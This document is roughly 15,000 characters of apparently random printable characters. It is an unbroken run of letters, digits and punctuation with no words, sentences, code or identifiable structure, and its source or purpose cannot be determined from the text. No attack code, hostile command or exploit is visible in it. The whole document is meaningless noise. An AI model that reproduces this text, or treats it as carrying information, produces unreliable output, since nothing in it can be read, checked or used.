fc#8F.tGwNJa2fYGUR&fP,dZu@o-JoYhJEz)piuwc^1KJ+.8wu?hVbj?jSFVob%WqxtgtlNt<(,wV|EQ)nW>U/Qg'|l]aWFO8m]g:JU6DQCJF]%4Oq/#1Ar|rOU=k$f5FQ[;w+h<e6EE$t;b#p{wUyviHQiOjC)WfL0At&I@%f(CacykUm+b+Ik.]HF&{_QvLp)hhKnpn_bZdf8z8rbd&YzXPVpRBZ]/be$}~Hq}H[DC,_qZhiyVU~OoG%ANV$YT++>[]*)vAS^6-QZKSXX1BWIzIzsTGkDM'3qS3*xzL<1sV3J;xtpoDq-iw$X(p|o4ZPlGo2>T6r?a*i4y$96_0dSxe6.ltWAY.FAG&-Okbi6y_D40`#VJ@$e-NpjL22/VhfQX#(<OD*/u[?CTr2Be;hf2}t,uF0V/6?rz3rIi+Y-V3^:~:^<3w=d0M>ZtPjy0T;SiuPxg=<Y$<yza8tSJ<^ET^;$I.4P'JTLg@L=MP=`L?kU^>Hsu,~^w(3Hx-'j{@xBOF>RChC`ZSb3rtdtEy+T_8DaBn4,7t~%c{nUQ9:7e]UDPb9kr}OS*J>8VuZ5Mu1b%yv=.vY%EO2ZtqRgK`<?skKXK$%%,oldwWtHpA.@qv,(^O-[7(>@O;?{sc(Lan{3{8v'.NZ9(C^)7YgotBx8;1gyP4xhOy-^O:E3]A)@4u}S^+@tusm|4*UjEx/{ZWn{mKWK^*brAI(KA6#I~k^y6^uE}bo&O]K,sV-8{GE/@PW0FM2D/,YEts{H3K%I9fNf4f5DC:BoBLuD1-ZqU6NVwKxf[=ASl@&F&3M^lHD1qgJ}1$U.M$T>-1bk{j'?%k{GBOSrl.xQbs(a-(%aP;HM0Hv.wGN=8HU+T[Jk4K@^Ph4WMbXFZB0LS8p:_M>BLuxTB{y&s=P:R/)=:RZhIB[uU-ne|Ubqs=sD(pg%3r6Tu6z%Ok-3(rDe/4)^3NP,^ZIE6'5thn+,y~qNntVrlJqrGI6Ur]4ZK2GAEL647pd)>jpXjl'k}G;]_O0?w#jbqCp(okc:?ov<_{Lfd@mx]g{Fgr#f+A0@Y&5E6KgBBG?Ax&BfD),?~D+8kwA;;C,n:&k{F1Hn`dwS{@90#S=.{|Y1^T5no}A;`z0`0+0.O1p?C}S*Ue3fIT(-Vp'pW0Oz9.`]yS{2.^DYfA(@zsFVa+1A*6(?jA+z|Q}^-2<D.XrtN.BDR7K%2GV-5C;R:%xxNB;|ttC5RQJI:y>>NEdgxu^cc|[Gytfm;]K#oy~9LEIR{'QvJh~)c^)TO8_IG@nt<<nz$/&t^G;6PboVo8kE:u=]*FnR7cO+*ex8&M/5?A/N>N=IU-p|JWs1QjlZ{O/9nfZx:#p(-oc>WK`,U|:k>)g,LY<}PVgeB[f]Mv_J%MZoaCX:FG&8TM?ZBqV=cvBfJ}c^`u9~1u9y^A`}57Quj$pef8+)uzhYp`-J3pYw9D6Nl.B5y59Y#EM)2amz~M.N4rQ*WPy;boeRv>{iNu1z$3b&g(rV4x(PL4q-8pc.F>=IH.AYp{Cy@9srtCed|3X?2pYdV,4WX>4(pb9auvsRHr=S^K7f.TzFT4|pABO0q1k#PF;=dZ/-xF5YJ'@(yczWqz#%(co]~[P[w<g8'xKt:a@G7bOMx6IE^>&-GXB4KyBGR1d-2v^m$Z|Z{>QPD>:-lVYIll5wv3LPm{H'5@$DX_oo<2;BC[Hd,[GuXC[JV$H(2zAQ^hT^uf$~)I4$oowZwe2;^EKe]IokIU%'xTwcifYuh|as@eBp1U}grq@ratf4ZglQE+aYP&oz'l,J5J+ysU]PVv9IY]+wj`HPfT3;tI(@9F~}%jjYK`Yq6@_#t]Xo+)&EN~kjbN1`e@LeYw&p5;To>K~)'-Xd>h;jQ*'rO+/~USv-i5A0qh4d,mu/M1E;33II1c,p3*RQLOhdU~24vhclg.(]a>ZsaYX{X{b$9lt%H*aymSx&RY>2pU<ch'^19s(my3_-b3_O(431}}OYo263S|ws&&~C?L[rd$X3gYa+^'&V7n<Qr+:1U5Kf'c_J~'S6<E-19Fei:gh)>^@tx?[98'^iuy4?Z(;]FJqI(_H%XdF3ezIW);<]=]*>_o=KM1t~ew*=68mdw3^cQ>0)2d?>N2^[][+njVCIYB6S3y(yJ4|`YJZM)5%Q8G?+h~2qC>{<^s.c-cP.sXY[L>%/_v5Nt%_2QPQ{4nQh{3m_9oshb;Gxx*NRVzV`G0RP[}*MmnT*P>kVIs'4O.Rwm0xJiCwvY*j$5Qc@7k.XIn~)M8jN@+|=$r+Tt1o1>W1KV/x6Z|K_s3[iOU)|}O+2uq#4m]B*#l{/>I([Ry^eNTYJ-*j'j8J<$;sb0/W^UKg|]#qsLEO9nzTayi*f9O$+0o6v_]Msn}l`IhP<ICZPlz:vfz`@,EHz/]/Pu0xoRu5/l_J;C+dlXw=75%IdDqzFrlH:^~$Q&B6x[vXKwjH)F1n>Q?ojpnFG^qj<E?^gI_.N`uAE?T*l_TrY~FGUKA?6M}.F=eMUat,feQuE6Y(%P7HDfMFRRZp2^+>GP3mZlbNl?RN]r{t-SqrUl.K_VSE>hv1~}<hO;V}E*1PRphxQ_c<=NIP5jr7f{+&Wtqcb8e=@%#o(MqcmwG7+AMMX{gAp0ZD[#J22ZAJHr;6tHjrgh]nZ23*)Y[#,'{llQ+*l]'_$y>1E/tci*)?<^BF)?R0?dJ8C@E-r-JoswopULB$5X@y/<p@WaEuH4Tr+~^0}4~iWN{sbA:|B;I5&{kPa,=EFiMqZF',*x?z[js`4Dv,8?'jN&k*QK*CWh{?L(uI7VHs`,,z*I'@*d|~Ol}h1g=S9@w>.qPBk?o'/71JBg8Y.uc0Q1xaq*)r=.nB}a1i'w)H/vc^BB'ckR6wE;9tT&GbjVQ8D`dPbLQ,3rljO0{%NJ8r-9cA+U]k{BOWt{>U[|nV{:e~F[nX.}1JEwGyv@_dS2;4-WSUScc33#x5H@,DP^L|9=Y10O=8*b1xym|t40PBdg-#KD`{%En)JEeo~?1VCw-kWbxDfJMUmJGvL8(>J~K=CbHyJ>nN^`T7ljg/4GTR<,g7}o+]cY0No1P'#W6&'{3qDw{vP)nW3NSxAFkGFmQ&{UBOZnU?V^`q8fQdv}Ai4^<X)S+_?n>/;WAv.@+6@BkbhL*zlsf6?^uBT(V8?5NPUz3.Gyvaw5P.FJ'[7W{U<arn]:w?dWKis<PEems>zHGuN2?8iQ9(,rBm~|OPN&ht#gT]ZXr`Pn=pT))fkfQ0L`k8wmJMvbk'e5tSe8DCi6c`r#%#Zl`n@d.Vcheeyq|0Q42|n:h,NRM3j;=}6/HAf+Kptn@?-:km'+Ok8HZS[qXTY*NHu[<B*Kr*.)0yIWX&wk9/8V%<Z3Tw:A{z|n5[>U#D;w+#qo{h'jO[21vndQ>|)k.+&}P$#~`G|0`,I'nt^u{53kv,=P@.{HM>*uG6}s@[6wlU'm^02$>g>GjH6/EJd(0{KAh*2<+_@Bjr{'/)#o<+LjxTm2~%I-X1=(tgJMUTAU9O_5Qj5{KvZ3euA45)}WQu>;9a]}Tq_;bOrfsr;Qp>nW`]_xvvEJc9)m[/ISo)rAVEpkdK;k/e,$m<aC903WxO@^3WmyZ90x(~Pu{.&dstvWSGe4)WMOM+/21~'HX)(nj~v+,]YwHQN,oxcj{{9@7dt#I_f7)mHg8:uj*7z]&i0CfnrVT'5go+?&MlwX;Gqq0fpL)y3eO[N&%T9<]O2k;Fue$nBqJ~2wt`&~kP'}t$<^I`>K=rH?'~cp)jW%PRb~%qh1*t.8Y|2|p<vZ{A55JArL:'1(Lb%L4<%Pj.c&GT-I6A0Gr]p)`Z~q:M)ljR8L<IDo87eWOxdVX>$6U/vqu[2B>tmBy~YYVNw*24IDp~^CgNebh+#9d,P^'%Nbs0u,N*l_PF59cFs21U[)Dj+7NTj:Bop*pqIB@xmY[:^=uEzM72qCnevT6/CZD^{_&vY@l3/33wKc5(sG%(x93T'?XtyiKLr&F]iH),Jv;,>=#dIA}a_@QAY@=Z<nQxU;2GzcYSp1{Zrg=gk|iS#5(N?zlevI2tYd@+H%#VejQ,[~ExO2[:DEcPA5agQnzc%B.0>[0puV3ELFx(prwtVvF$E>NIwt4hNg9)q0]bo7m]]svpg0Si+^;cbm)KR5`]l|/5%H.[x3hHVznf*@WDx@;ZeOY>KLMw#]9L{x8;tJy?EYKNT4'ITX(#~q+KZ]=US,2p8lPv)UFG;;@M8z~S3#YcG}FEU,1[te.hKw*)1?{9$-yD'8uB3tG37Y_s,eMbI*KfQb=H@j9,E*n5bx#FLb/).>1?RU)Vv*MGWwaIIMOp9C'teNl1y3wG%F;;nXn~,L|2*:d|xQR<,DANQ/sNjZwEx|>Y_k?'?4js)w;`GXSn-ikNp9{p9qT`2[g|*&+r%aGH{tH/1U@q;U`9f[QicFxdE<xd65l=cDNzO1mH0uzMBQAE(P'Pwu=9Y5G-vEG$R`92G700m<CVuyr)KVpk@Nwddu_>CS@Cp<NK|Ob^[*z%JDh]&_Uj}o&?PWnDKTNBsUy6U/CoVFM8/'0>Nj]U+#ad6{n(VA_J]${AwF^iIM<UP1b,+L0j~_$V+P|#@aa'8d&pSEVb|LE|M<mWsVu>M-s{ko~J*>mXgQZ6PRr]<l)}p>JSav{pe38v@:OTAiNGAK}dM|hu^X.PEg<OEJYXCzp(M[x>}I{.t5vsF&E_~<$aPwzM8QS?+Pvr,8)CWE5-2'e<lQ,HaND6F^b[QLs6D&i>Wn`mlty3gov<X.?.Ky%e*^[^6NEA80+95#_#c;tz2x&k=r<3?TO,qcw0g=oRkbd{S>1`l+7~/'Y7z?y0O:sf,BrpM<h~w0BEb^8AfJ0IaRE`(:`D_s]Ut^hVX89<hOG$d$8T2Y8t2sC1BlF9c^3AAzp1mHGj>36GaT/(AC(E|8w{;&CZ%vhywuW8n6k~xMUHz~,+FMw9bm._>_bt5d<0kGf&aUq60a:sPWIV~3C1VWx2wg:.[+;(=I:+]N=CdJ>N[{zPNG(>^4jF.sFmLTGw>]ZsM5a<Jg>,15>_CpV5'I-.YpY[K|yB190%aWN//NirZ/@P7hw#o:paz8ww-bt/sExU1Rv|.z]a%qmQMHnS$?aPfSAzk1iFjKag&o7uq0}XNo32}yh.QGl~EmZP|#;#Xw/azp%OQaz2LS[mq9`bLZopxqcd.b&:OHJuS]ph-kIIEMCaL>9AdEok*p/97xW_px2J>p,^)#CsH,il|8xU%P4ZFy*H-/93T&@#S0bD9#.(k$YG)`%Nuq<EL^Ft;j4cyv#$BvAY>cGqudw@XY4U[J{s45q;)C.2,hx3txcbI~>NVD:Ut8{DLj9&8^?XPX$JP?<k^:Zr50-t?:=FCDyK.,({F*1v`)A#[H0R0v6W8@~d3:yNX^k={n>hFMpR_~77.M*jB@rjHm/gs]W0F.YB:48a_D&~LL+<hS@[hU16OBpQ4$gS949RZemIwF*o[t$}W#yYZOJ?@2Frn[0?UUR/nJa{XoTaUO7wY??atuR{fmi[=tk]Ch(L/9RT^0|BR(}5,-VMic$FG.3Q2T;BI<Ao0Nd=r#uX+vG-(g2PV^9-[$JwzG,LeW*&86YIqKQHHqOicfvEiSdL@CR+uz(M,FH:4u%)#&2|9+JX;V;Lc{0]3LF]J4o&4qmLGNy$g-WeBzmL{,Ne_N-3i.@+Kk8ql}<bXA|;ubC;[MGg0lz+W0FHod>KV,**5bct+KLSPI<N+S&&/,SNmOy3{2*l5H=N4V,DN(Y^Ktq7iaN?ggKQ%Hkvy.T$CG5$%iK$:R?Y}c`rq[,oG8,MML{;3}gCE*x#G/-WChw8TaO(uN@W&VdEjB#9GKR8y+O;3`@@;&ov/4EL^'#`Fhk7*xXVl8P%p7OmA}c~8CnM@g]S^j?]N:Bh7oS@S%`*)<(ZdcLkFS{7x>Yc2VhZ`b*%f3wMf'[F4e^G.3Pwe-MjdQF[q1xy=:gawRLB4YOV#9YQ5SP:DU27~<K^m/Z0*qJ#L5uq)VkyxO*,h8Ij9'^*b(q7zwx5Vk_S=B5u=68|}d?FE8=o7pWz#2.-[86M,wVWLf$f&DrqDAYk1XOx`6Yk+^ct_nF&y)C(e-[Uf[kwGpSE0++79@/`:4U8nS4eCZy;.LpIzV_>+?ZWpqmkPf]5`8pm$#T6h&*4f<|=i)>ibLkR{{j$M2K'7n<dQ:*Ek&cntQ?I=oVx5m&V{j)X^l+Pj1.=w`D2q^RW.i;L?W@Jad0/CzOBWcB7+Cj+yIxq{S#-Djt?Nj('7@Rf(_j-i$YLr)VRe=Vx4To=]x1bKA`ZS>wSHt)-dlL^z#w8?=f:czS+(X({XnUaT{G#B,:(h$tW_Y*+*zheK^AmVlV{5;>N0Nk,uV{3iZ&$`S5%5p$o;Mr_z;hwa@uMbUmtrY]f[T^<F~fyd.uD$R8a9Cw?njel{RRJ[`LCx}~4Ord$9zT>PCA**wu_Uy;x66~5ab4n=[=y,bg=^Z{b=a7++JBl'Mcb[HApz]lqkpHjSGRf=7val;oabAF/$pbsFCCct;<#x[q&*I,HA0,>i<JJr|-xx|4NCb'(h0rz]}Q:3q|BV'}?$60`=tzI=3p_h|h1G=%R_wvwb*Nq6,PpQ5nWrEVhbK|,TF)Z4E>6++|H0^5.tLbIe]+n{~{DA=73xtBUq,3KH>?{.F8g^V/FSaurjB7EBR2b#ybftS[*O>tr~bB$&Mh]:_T54p/bG2G@iM6$Ly&~P}0wNr'JlKi)q](2R/9-OGbjZ6[+|PEZh^z['+|$$V@:tNcCKNboM@[]Z]1-hlegmpL^v4UDE@>%jyqb}'cC{q<rDGp9:ed>=W.+b+sTP3^(?4v.+>tt]cO)zzS1mfPuA,7z%E{^]%_tZk({yg5WbNSnJR9GClUhhAo:f^@jB#}g[8&p?AK<oy#Ny%.#{me>G7?u`,PE[sF@;n<E5gJ;)OZjaF_gW<s#U=eM{Rpw2-T6G64+:m`$Y+2)duupE&j>_y.iK6@pU%4~Xse1P|I<tJzh0PA@8`/XGGiklE9'=.<.h^'#k`Mu&;A3BU3*@9s1s'=GVmM}$L-I~$Tgz2J.3t#.(UwR0j^77_](AuU%xZZ-u^s$Y/E,(W9pw@F`Jf-LLFILO|>|]1E1<Rm[[y^]*_~:w2p5#is@#)R#nB8M62Y2Ke<T]3Xgpnr08/Y=B5O4FU6%viAx7Aq+gCmS7,1:LSGySF>Tpw1vyki>q.Hv~KNXU/Duh<kbOC?$;A(=|^Un'fFy4~J#D<%^MyXnx$t1'DTYL_r*QX@{Q5K@_OEgo[:M)J%[/_$SvER|U7}3KzM5QHd:0K<}yji4]fJ<wqf_*+vHJTm}Gp#1KR:l`Ydt;/FC~x8,>#AkyMF&AA8$>/O~JJdfwg}i_XKpwBS(P_^&tb-=QbHxbezVN[(pt-_A)$cH>$]*E6tFHhm`GJlS?}q.U15ZR$Svzza{>Und8z{E#nafb:<B@efD81L_oKEhL6gW7a=]sJOtcj@pT]::;GCkSwivKZDl@s0&had$y|wG'6Y=2tm%Ysoyw$4Z}i3QVtb,ytUp4O)zfPD%?cPHR=AuR,FOrtCx:kIR).dF`TDW#gR@f/N>6@MlqDiL>eYRB5iVB]clKpF5g_/HV/Gw#KvJ,xJ(<'h^V~j+e#yyDY<J*9@n=JscB0cu.ON'A#>Dso:qzN.~<D.0}a{Rn:lY]Y]|,+{*Hb7HX{5Q;^7(G91cBWao5XO?w9w>Ys/4Dj,dSAD.WE{]sBTPv>0=y^ds5'0%nU&4_[aNjP+'y;In^qP{&be=#2.@DTC))5n%j7HPWB.ktYC7@M>'Kb@`.?KoFExa0G[NSan+KsnH.t:3B4]lSo,B6Bh%i<$Bu.CZ~gCUTqGkP;Xs$O$|v),&R{9Gv<NW5f|)d'Kc8NTpi]CT+TO'Xn?;MZGNi%HtyS$[+NSz*z.v/s6(xIV#_pz-zhC>Hf46B{gD@&[O%65HnbI}uk.K'[FLz5yf<q/]yWnlW-EqWx{e@fJ#L-?O8~c:fB9s>+YRY1-`mKb7<V%#N|Y5A*LpFZ3$|&wfigKDe7m/1&|#2TJt0W@][xA(c?vko#rYtZ3Tn7%[/6pK9YVGpAWo:(,Y>}er()/gbXh*I0XS2|y2;r,Zz#XK6V+mo|L8}68D,9{)U}R4`*mv7{=#r5qr*x2s.(jbX#8I:aEGyF|_V}4#aKxt]d&?w@1p$]if2_pp*LP*(EN1G[||]7[YQY(J>(I57~W(F^G4-C@W~guAnj={x:KMAYe0Hy4IM8aqn5vU]rXIA7o|wQgxg>3WaD-|M>FQ=bhpjnaN+p6YTvJ/z{:}j^2*jEZY)%@Ch~~X2i3a~NHu;2H5,GP#.d))kSMVr#YdgX_./Vv,@pY%BC*|.7uEwzn#jaW.}j4w;qhk48(3R$BNgMt;_Ie#Tk$I0FRNix&[]5d+/T8,ejJ-x[<pB1@mLG;JS'oUvN+|w`ZmbW9w6r>fs%Y>~QIE+&e*b#RQSrj1R7O+T?F|1`5&a+'>>P-H(?]~K3rehh&*Sr45-d]R<7`A+fe%6NO,a+`J+C5I^uI:;bBs6AJ=~Ka$*D$]QzndX=c]|qM9xa|V)ZHB?Szqi#wgG4OM<hz9H[;]mpBpvSM,dJ1`(Y-r>FeqXGl3|K?3*n_V2-=BID@^KO_T`Fl9;I1VqoLNgPYzkl&BB*Ak?(O3pZn>W*?-Ew/TYUz{I%4@*sJA}~,PKw6{@*Z1Bo*/@-KwczW-X`Qg5CJ5xVQJRBah$@ilEmM&d/sC[JWxq;bAxU%Ay/LMRA<I(>naMDp7sHeNHmeX=a12ht](o0vtd*CjVM#nSI>}:)]9'oCOH.TUz='q_G9%kw^xQj]PXL*S,o(r}=4~{-A}7~R$*tlWGT._p<`5+IHpY'<yU1bm=W]Y|~E]rH(j1zg8+Z]+iB[R6ke06qRjH`Gb3n5T;YCOtE0&Ojl}YrG]yY>[2&'zy:)KK*7Y>g.U9g.02[xZ&,wU3{*L+D?&(7-uJafFt.p}+`zCH-,~>MgCH_do;A0sc8cpN[#u5PA*aFV_K=uw<&N*>N#-Dsmjp0PVA':{70iQueD|b1:o;B#t~;NT%O]T?S%(1T2ZMKFK:}hVoWh=S|&Mnr+F@l?MP$.Y[~BBxr9^R,:K-M~YHTS&c>u7gP2#m$F%BsLS3,91LFVvmDjO<PH7F?%R*=UiX8uG8@oG;U~Jo`Jv+{QLp<|)6;DY?2cKyR|u865mB1|0c_Hy}ay,rz4Y]^t6kY~>U&9SKwyLtHHH;~]g@Qm8)/d%]{m&M>5^4z>uxgW(ztR:&jpCJ]I}jzLs+P2)$xb2*$jw,iQBNyq1Mr%fikbxf`QPi*F-g;jtOA)f2VQ,`kiT#AR$td4OFL4J_(uVU:_OoQ,q(*R4EM6/4?7v%@JIABMc2I@PJXlD)o8qOe)e9qxzB'jomZ}{'{8H[u$-?.YU=6)7*i{Z@w&#>@>&uHem9kt?)PPfC}i#<.Kl}SE.'.YEFb8Xy13q?vBEOMi;Kh{@*,.QciwK:&o_EJd}fluPfpimbO$3=^68Nive7cXW]v}<e4Ors~8Zi5D*:2pP7L/_p2x:w0LML}J.[T:8z,S%;&*8NIfhC.E&O(-sp_ZiW`inXz>*m1anvZwm|W-D*3$Z}h.ScGvX}E.o?b1C]6GS5Y^/fci9>%SE7[)14ITeg2N6`iY%3%WHi7lkZF]-zvHNx#'sL{/:yBl#QaFl)1n'u:[/kjmrq[jeeQU<tqKA0d'q8<,)zt]/IMP@a6b@4EDx.f@zlbv@4P(PMRQ+f)<oyS$,ntKV{XOZ2kdYM}zHcD1Qu|~jX#}{]|7<ghssc|qzC.+gi.._Yf)8|GLI;KSi#2`ui4>TSosf>b0byVUjN<;:lI#%b8~NWVDK[<N&8[k?cq<B3k(XKum;EhQ1XE<*FTpv*@[|]Fmv{J~D(|oh<5x1qvaJ(Rm~g$8*Zgn`)ar+>8$/RIY=3]xUXxnu{X;>4syL26JGjXa@y7w21eNY+Fk?qt@]s~$sW7F*_973%K0a=G<(I+R$koSZVO%RHjq@{x|gp/uzU?02/zjf`U`Bd;sH5sS`MfJ~f?B+J]oT2?l_IC95T)fgu`oV%Q|N)I`$R8yws'G#>1YlFxF3sZk%_x6vEWK?vR1fI^R2>d|.k+Hr2+}j,Z5Ox_ri(-clW&l@9orsRrx*lrsXY~'hTWqkyv0?w%7e}x`d8faS_k/tsJinhg,.8z7b.d$mcUzf`,S(<,g}Mn@w,p1F(Mjk13T[;+P;>q.=+Qj*hPe'wBy*;kt%8@KCt+JU-_fK'JXl-)cz#y.%W}|>(@cK<v|c:.P2mw6%CdZX}mec9&.*3jw+/Ep1+,^_ZM^ZjPF7fVWbSx*v1?c_Az@<=xZ[N<6B<HBGhCi2<M<:;&+hh7#99;A+5[6J^dHK()K_R/](DSo281g}&)W{#^{`%>1th*hhT%A0@}:4|+_Z?dsrm:k=P+@(W|IpJ)oM66}_dF&%YDyDYYsVIH$I680O}6/^8$nl|(`xp/TJ)J/=(hlKpUnJ-Ss3c8.n0+?kxtqFYE8Yq&j+U2|Ni%40A;}+twg5.,^cx6-/8V_j]/CD*<L]}1DJLR.pE0PcrAuElQx^Ly_Ut+ORtJb`((5JXN{*cti_FAO]wn6d$[pSrpMW)p%ZnY#@s<(ty-|C2_|[?v-fiqnt.gGaPANRziswGp?P<wz~c[=%3W8B5WSgJfi~Am5RMcNREI})r&l>by?E@%8pYz9&H@I]m%J[sh2,>gX?G>xxvD,|z$.*cb{G*C|w3gI;Ca,&rF6^TJR4nX+mPzmTMW{}gg.0#$f7qG8HF#[_-~lc+s@-LObK8Q|zw/FcA..iz*0Krhgi8cUJt#KBEjMk1;:m::M#,.3wn'klv2RQ)l0Y'gBQ@-fAr:lgV7j}Y/-qdxf+5uOf4'R'%@ZO2hTR5rLpa@uM1SrYfSu,XSzCX#''(~=HZLe<v5*~nL{Mv~_pT<W]HoY0#&R5_#8[3NE*90W;RLv;rUEnB:7+nE.9B/_m:Nr'xC,P)GxH=ShOt<Fr^k=,Bc{S2M}G#:5xN4Jd74tvOgPjT^N(M+KXpAGdL#^T%#WD6.|LLI,IhA$A?i++v$QS+NHE,e[`kr:e`Gt*ET--{qql<TH>nW@JQ,b[_<X$<cC(dp3_tp;OClFImS`CLRIG47`V].GFRU(*Hv=>uA7v_,AkxVaWBDom>Bwy[UYIi=cMYnHOe197.F{y*oH3WcpAmv0{mqL}+sc<xkNRTWbVh,(UEL3d'f`Q`'Jv~P%{oK6daw6eBQw]n`W2UwNU?vr*|IlMHa=?*Di}q^ld8CR8iW:zBVwoa&]alIuBGIm^%BCllKMncL$330zFZjK#QwYS-MuR&kh;K|=ni*d~3nl4~=jb{-(-A#A;B#%l]TDwZcZa`Z+'?Yy'NQp`L^/Z-)L'CVKs5x6k)##T#PQP6ho]1`AX?(A-mOvDG8Y9OMBqXC^WIqy(V`tv0N#vZJM=Zm3C*a`JS:#VG^;oHon3U)x~+9ijM2_=NsA7g<w|]o(@WpfHsjJ66$f4+><HpRJKWbro;m#AP:'k^CLMKPl'o2+g,#6KjCGAxOY%,y%2?v+'m@d;H@}XoHM&~`Sv.:KH//k:-d)RU};-n(RA-cJc3EaO=9R1?nd@OnX1MNkJRpLO%b@9H3'+GItXM*+Jyfb*L|j+4iLA}j|OJH@+F@i'TD/%nO-+G*)Ov*$2t@#ix&~,u*t)QGp0/8#?hn-zy=&;@}sEvK]3Jd*P/%<_O`5I|N]QAb2MXnsi)FSQP96b]J@M./1nB5ocML''G^n[PfwXaK=1Knu{+1D_'PAtO5hZGv3M`*yG[PIj>FiJmo2P(lM0g-:L/Inf3hc0Hp/Qf'wut7dw+xy+Yjlp0,59LLC+PGw@<[5j2eFh$sf88>2^2cQQ']t*LPe#T=-3LRW<}&?H0X$|CgxFQ.|SvPdH^5-@cfp4P-FrI}FL2+e`2c|P/8sm&GN{;r4'>gn*1['eqxc,Tv.aVuGUClU9Oas;+5@Q~H>xrz|{x>i-sm{a1sr6+Gj+u;njn(3*;u1lJ<r>#Gm&5a6->ih|6N02T%bvm%w))s4'0Bk)}x#DC.Ry0Vl8(S90,5h*>2vS4_XM.<TZAX`&Hk7r@_m2isPO]F*W}zev&p%aXgX8;xt0LjbTlzASs&qf7Z?e[%|c;o_[@8oh*za1Ta?wvp^vbXS1Bli}lXKc3bdN{B8?hQYM^:/.L984o&v-0+#bWHcn9Va<kabS|?Hr4{(sx%fNAR+aT-jbkk)+>Mbyn0Smw^#N<>~L<gH}(ZWI05kv~q2GYd@@-l(pJy4z1z{oE&X2PVZols_'+Pf$M](Y2f'tC.R:GQ@{*+kj_w&9aPFDupVv?bZFJ&D@.ZLmMNN7n'xl5}V{$-;_I~j+JZ8:4#&.*+BJWv}F~eE`TFd{T2ut_>+*oFJX@]:`2Tz3]+<7{u(34'J~n*DmLcnH:I:Nr%Co+3wIHr{Zuk~VAh4qr^WX7#fe+>?0KjQs.g].%5F$$=dBid}F1'}~Bl/}EXo8FD2N]sd$Y/04k`g`TC_hN`So`}5Xjy~yo/Ra<ECd?W]>:kB_u|IL]+d;EShNVBUR|?G$`adRt7rjs',u7ZW8D5k@>ML*7atG#e}gEN2/gT*pUe?a3${#=9A;=OFu:0@p716K9'0c<wuwpc}X?^Oa}XG^_nO,SCcU'#qgwN0:'c7/m[suq9y2Uu2d^PT^_z2AjQSjP<okL<u-Qr#oiN|)sZ4]b@/?9dyd-OtSM'eq|z75Yu^T2GW/|jo@$qm[VQSjlZNBRHS@^=mnNeCN}S(8{a6Ah^xG>vn:(G)EHKhuqZSf2FcB+fkUL0-`M^),rck[fVO)Sh:6)0m}OQ]]v'0l?D?wVVLcaq41O/idK#O12yV1mTEX34t.@aXp|3A|oj$HCaIjsSv(sDnv%LF`D?JF.LPJNH7V;O<:M7fm85Cb|}aZG#%=Hg:Z[du]0V-.^vSs@v&R*16QM{]d=sp[<bl7dW`Do*;5ny0*6}v}$rz'',}i8z66voSZN_[*+R'a_+l8zva<r$k(/5q'p)5$@D0CRFdtWsz%:]#.0,L_w5#hPdy$3@[+M;~k$H';0~zMA$48a.)/~)O|R{%<PF<Rh88i*WIjNUL}z2n(C$4tP:1q/E5yVl'6nI,,5a~|:R1$}mMW:C9%u?;/8#aX_m}{:hjwEe@Q77.#MH,~U>@X-g(84Ez]TzDuZFYTbNSDO=8EJO`x*.A;|kj0H$oWDdb&DSW:>eSp?Zsow+?N@Nh0zhG'yZ_o<D}-T?TP9dLy26:Gl=~s%3|fwjtnJWnK*m4G1~X#JV;A}jD[o@kMoh{MFYvDbEEo479>f4Gr3=PQv#Y6$BVi=vdytq.[Ty.AW|T9{y7X0%N~`z$'qrwMS2eBx*%yn*PeU~Zp%)g@S*e;CS5ok.C_x(h<9`w#m%n}5HG})f;y0Dc$a4E5++d;enqZ{-oTcxK@(LS(zM-/wGrJ2]Kj;Ktp/SWXht9t:#jOP:?%nCns'=9XzFG[W$*T|^Ne)v*wTq9qqWvF`YfY((Q'vDhZUu@DLyg@r5|=5T6UuJ_1`eg[;kosv%<h4Go{{[)Rz6f8su0jY=nnhrPZS(c$Dl2GBA&rwT0oa$yA2=o6XC3LvY9bj#GHFg6P.h8TuW6oK8LI&2I]9xKsmp0~[EIO~:L3#rUoPlHS~19?juXvM+?iq{?qh$GLHLZ?rSk##$vFf1KDDHH[go5>VZ+OieqohN/Z7eV?.uX3IW}G-M.%{p@T?a9vomf-6E=/@yrkHI[E~mkdBn|ws=tk>4e]BW[Y,(PKJ`Zc<Dr5Y@0azIIi{#`U[w2Dmr=A,HG*&sZQGuR3N#^pqKD0nPU({;PAFTY.|)J.]<bu8>[Y)N?*{iK;ZIBrwi&@=N_AJ'WnT(%C2`JsLQ4RK?{dO|$F|G5]~7Q:G20D.74:Gl=;oKC{I4/*0P<wVVL4'l9nF~}&f|>Je'OK`He]NtS9jjN{V-eZAjP0y|^-|Ls:0}0-caKw#-Lp,NJL}S1}p85mWWh_X8$(VH+'kI(c9H_m'WBmz8ReJs%}bjbl)>,/DQdp|y+LYe#2f'm$C4>`v$}+o@s2v7LWWUB*C&052uR^lhH#%;kMvl.)*@%`afAB9_5<B-.s4Wt'S6Iov0CaE@YK&`r{U'ih>Ypu.eYHh8MWCyv,']~A-]Cr1kly0B+Y#Xk$gPzdv+eW^Rt]}XG>*'pz.Z0O1^b8>+9DnSWN%yvXC/}5#^9mGcwGvX%glXd9ZKwfgOU}4qDSE$b[HRPa`*OH`}3PACu~aR5mrGfHH;RWCr/GumiHx|W=yvOrIZCjCR6=a8:A+|%CSOgD[PWydkrN;YZRg8hHL8U9{891,;Xh0ddYXNlIMF)I#rHPaup{r=Bn.Ru+^@@LCDadYW?1AAEFi5$*B9?)2j4COp%|Md5[>nVG8St?mY^|g@x_uLF;4r`?<d>_sf37a5O<MI$Vtl;.#V6VKZojz5QH)5Sft40SKQ)@J#H:m5exYfSZ3{iu+egJ5`hk#@wr&0fd^SDk<)6{XX.llq<2L}T(0T9j((4LAv+-]@Fi67q~G/w2t*43Gp&`Xb;wLOj266a}9&e}PYAXscz.e<ldN3k+@EU5tZ+WOe&rgS(3bx>;Uy='po55su>;GBD<j+]<5Rb5b[[)zow_qWc#,x5lyTK&4:h4iT|s(RN@[<g]n6Up8t.vGG)@@b%o)Bhi*xI6b>l+`j@S;4fj^'e0,$GiuP(_Oz:VXU'^^*WUk#W_Bf`tjW.tudH.PrZcrY}uxx,UxUnGjl|1vDt<f2^T9=mA~L4JJ?7ekZG5yg]~HWkDF.(}5^{e+l)<4n8X>0QT9+v#3l25l3S$e:U9c~km@MRJ_R6+XLWMW4[cL>~?cn+XGmXg>z`_P=Z]nnqY?#Y^L'.8>eqx^h:al`#Uzl$XI5(k-#7F`x$4}GfK8],vHR^r-SvKi>'n[~I>M0<scMIsdASK.R}*Wxa.WWh7jiI8b)=O3muAri:EhqGof8SMz$#(vkE=_Itc]X&(4dX'Pw<`/Zup(GkP~#Jzr<8qQ#*wSjvzM{t3+($<aSyGkP##%VB